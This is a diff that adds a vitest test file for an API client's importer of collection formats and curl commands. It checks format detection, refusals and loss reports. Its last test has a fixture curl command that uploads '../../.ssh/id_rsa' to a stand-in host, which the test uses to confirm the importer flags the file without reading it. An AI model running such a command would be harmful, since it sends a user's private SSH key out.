@@ -1,0 +1,117 @@
+import { existsSync, globSync, readFileSync } from 'node:fs'
+import { fileURLToPath } from 'node:url'
+import { newHttpRequest, writeCollection, writeItem } from '@parley/model'
+import { describe, expect, test } from 'vitest'
+import { stringify } from 'yaml'
+import { importFiles } from './import-files.ts'
+import { expectValidNouns, requestsIn } from './imported.testkit.ts'
+import { newCollection, newEnvironment, newFolder } from './new-nouns.ts'
+
+const golden = fileURLToPath(new URL('../../golden', import.meta.url))
+const corpus = fileURLToPath(new URL('../../../../../shared/corpus', import.meta.url))
+
+const file = (path: string, text: string) => ({ path, bytes: new TextEncoder().encode(text) })
+const own = (path: string) => ({ path, bytes: readFileSync(`${golden}/${path}`) })
+const items = [
+  newFolder('Inner', { items: [newHttpRequest({ name: 'Deep', url: 'http://a' })] }),
+  newHttpRequest({ name: 'Flat', url: 'http://b', sequence: 2 }),
+]
+const yaml = (value: unknown) => stringify(value)
+
+describe('what a set of files is taken for', () => {
+  test('each folder that is a collection as a whole, each other file by itself', () => {
+    const bruno = globSync('bruno/**/*.{bru,json}', { cwd: golden }).map(own)
+    const { parts, refused } = importFiles([
+      ...bruno,
+      own('documents/postman-v21.json'),
+      own('documents/service.wsdl'),
+      file('README.md', '# Not for us\n'),
+      file('oc/opencollection.yml', yaml({ opencollection: '1.0.0', info: { name: 'Ours' } })),
+      file('oc/get.yml', yaml(writeItem(items[1] ?? newHttpRequest({})))),
+      file('commands.sh', '#!/bin/sh\n# two\ncurl http://a.test/one\ncurl -d x http://a.test/two\n'),
+    ])
+    expect(parts.map(part => [part.sourcePath, part.format, part.report.counts.requests])).toEqual([
+      ['oc', 'openCollection', 1],
+      ['bruno', 'bruno', expect.any(Number)],
+      ['documents/postman-v21.json', 'postman', expect.any(Number)],
+      ['documents/service.wsdl', 'wsdl', expect.any(Number)],
+      ['commands.sh', 'curl', 2],
+    ])
+    expect(refused).toMatchObject([{ path: 'README.md', failure: { code: 'UNKNOWN_FORMAT' } }])
+  })
+
+  test('the only file of a source says why it is refused', () => {
+    expect(importFiles([file('x.json', '{')])).toMatchObject({ refused: [{ failure: { code: 'NOT_JSON' } }] })
+    expect(importFiles([file('x.sh', "curl 'http://a")])).toMatchObject({
+      refused: [{ failure: { code: 'NOT_CURL', subject: expect.stringContaining('Line 1, column 6') } }],
+    })
+  })
+})
+
+describe('OpenCollection', () => {
+  const collection = newCollection('Ours', {
+    items,
+    environments: [
+      newEnvironment('Live', [{ secret: true, name: 'token', enabled: true, allowedToScripts: true }]),
+    ],
+  })
+
+  test('alone in its file, under any name', () => {
+    const { parts } = importFiles([file('x.yml', yaml({ ...writeCollection(collection), bundled: true }))])
+    expect(parts).toMatchObject([
+      { format: 'openCollection', report: { counts: { requests: 2, folders: 1 } } },
+    ])
+    expect(parts[0]?.collections).toEqual([collection])
+    expect(parts[0]?.report.losses).toEqual([
+      { path: ['Ours', 'Live'], code: 'SECRET_MISSING', subject: 'the variable token' },
+    ])
+  })
+
+  test('one bad file of 200 leaves 199, and is named', () => {
+    const good = Array.from({ length: 199 }, (_, index) =>
+      file(`c/${index}.yml`, yaml(writeItem(newHttpRequest({ name: `R${index}`, url: 'http://a' })))),
+    )
+    const { parts } = importFiles([
+      file('c/opencollection.yml', yaml({ opencollection: '1.0.0' })),
+      ...good,
+      file('c/bad.yml', '<<<<<<< HEAD\n: :'),
+    ])
+    expect(parts[0]?.report.counts.requests).toBe(199)
+    expect(parts[0]?.report.losses).toMatchObject([{ code: 'NOT_READ', subject: 'bad.yml' }])
+  })
+
+  const roots = existsSync(corpus)
+    ? globSync('bruno/**/opencollection.yml', { cwd: corpus }).map(path =>
+        path.slice(0, path.lastIndexOf('/')),
+      )
+    : []
+  test.skipIf(roots.length === 0)('every YAML collection of the corpus (../shared/corpus)', () => {
+    for (const root of roots) {
+      const files = globSync('**/*.{yml,yaml}', { cwd: `${corpus}/${root}` }).sort()
+      const { parts } = importFiles(
+        files.map(path => ({ path, bytes: readFileSync(`${corpus}/${root}/${path}`) })),
+      )
+      const expected = files.filter(path =>
+        /^(?:http|graphql|grpc|websocket):/m.test(readFileSync(`${corpus}/${root}/${path}`, 'utf8')),
+      )
+      const [part] = parts
+      if (part === undefined) throw new Error(root)
+      expectValidNouns(part)
+      expect(requestsIn(part.collections), root).toBe(expected.length)
+    }
+  })
+})
+
+test('a list of commands tells what is faulty and goes on', () => {
+  const { parts } = importFiles([
+    file(
+      'list.txt',
+      'curl http://a.test/one --bogus\ncurl --max-time\ncurl -F x=@../../.ssh/id_rsa http://b.test\n',
+    ),
+  ])
+  expect(parts[0]?.report).toMatchObject({
+    counts: { requests: 2 },
+    losses: [{ code: 'COMMAND_NOT_READ' }, { code: 'COMMAND_NOTE' }],
+    filesToPick: [{ filePath: '../../.ssh/id_rsa' }],
+  })
+})
